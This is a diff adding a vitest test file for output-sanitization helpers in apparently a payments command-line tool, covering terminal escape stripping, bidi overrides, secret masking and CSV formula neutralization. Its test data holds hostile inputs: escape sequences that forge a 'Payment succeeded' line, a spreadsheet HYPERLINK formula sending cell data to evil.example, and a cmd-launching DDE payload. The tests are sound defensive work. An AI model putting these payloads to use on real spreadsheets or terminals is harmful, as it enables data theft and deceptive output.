@@ -1,0 +1,61 @@
+import { describe, expect, it } from 'vitest';
+import { csvCell } from '../../../src/io/csv.js';
+import { forDisplay, guardTerminal, redactSecrets, safeText } from '../../../src/io/sanitize.js';
+
+const HOSTILE = '\u001b[2J\u001b]0;pwned\u0007\u001b[31mRED\nFAKE: Payment succeeded';
+
+describe('safeText', () => {
+  it('shows every escape sequence and line break as text', () => {
+    expect(safeText(HOSTILE)).toBe('\\e[2J\\e]0;pwned\\x07\\e[31mRED\\nFAKE: Payment succeeded');
+  });
+  it('escapes C1 controls and bidi overrides that reorder text', () => {
+    expect(safeText('a\u009b31mb')).toBe('a\\x9b31mb');
+    expect(safeText('invoice\u202etxt.exe')).toBe('invoice\\u202etxt.exe');
+  });
+  it('leaves ordinary text, accents and emoji alone', () => {
+    expect(safeText('Zoë Ñandú 🏦 — $12.00')).toBe('Zoë Ñandú 🏦 — $12.00');
+  });
+  it('masks secret keys and webhook secrets', () => {
+    expect(safeText('Bearer sk_test_51Habcdefghijklmnopqrstuvwxyz1234')).toBe('Bearer sk_test_…1234');
+    expect(redactSecrets('rk_live_abcdefghijklmnop and whsec_abcdefghijklmnopqrstuvwx')).toBe('rk_live_…mnop and whsec_…uvwx');
+  });
+});
+
+describe('forDisplay', () => {
+  it('escapes strings at any depth, metadata keys included, and keeps the original intact', () => {
+    const original = { name: HOSTILE, metadata: { '\u001bcX': 'v\n' }, amount: -100, list: [{ d: '\u0007' }] };
+    const shown = forDisplay(original);
+    expect(shown).toEqual({ name: safeText(HOSTILE), metadata: { '\\ecX': 'v\\n' }, amount: -100, list: [{ d: '\\x07' }] });
+    expect(original.name).toBe(HOSTILE);
+  });
+});
+
+describe('guardTerminal', () => {
+  it("keeps fc's own colours and lines but no other control sequence", () => {
+    expect(guardTerminal('\u001b[1mbold\u001b[22m\nnext')).toBe('\u001b[1mbold\u001b[22m\nnext');
+    expect(guardTerminal('\u001b]8;;http://evil\u0007link\u001b]8;;\u0007')).toBe('\\e]8;;http://evil\\x07link\\e]8;;\\x07');
+    expect(guardTerminal('a\rb\u001b[2Jc')).toBe('a\\rb\\e[2Jc');
+  });
+  it('in a table cell, a line break stays on one line', () => {
+    expect(guardTerminal('RED\nFAKE', false)).toBe('RED\\nFAKE');
+  });
+});
+
+describe('csvCell (OWASP CSV injection)', () => {
+  it.each([
+    ['=HYPERLINK("http://evil.example/steal?d="&A2,"Refund")', `'=HYPERLINK("http://evil.example/steal?d="&A2,"Refund")`],
+    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
+    ['+1+cmd', "'+1+cmd"],
+    ['-2+3', "'-2+3"],
+    ['\t=1', "'\t=1"],
+    ['\r=1', "'\r=1"],
+  ])('neutralises %j', (input, expected) => {
+    expect(csvCell(input)).toBe(expected);
+  });
+  it.each(['-785.81', '+12', '-1,234.50', '-$785.81', 'ACME Payroll', ''])('keeps %j as it is', (input) => {
+    expect(csvCell(input)).toBe(input);
+  });
+  it('keeps numbers numeric', () => {
+    expect(csvCell(-78581)).toBe(-78581);
+  });
+});
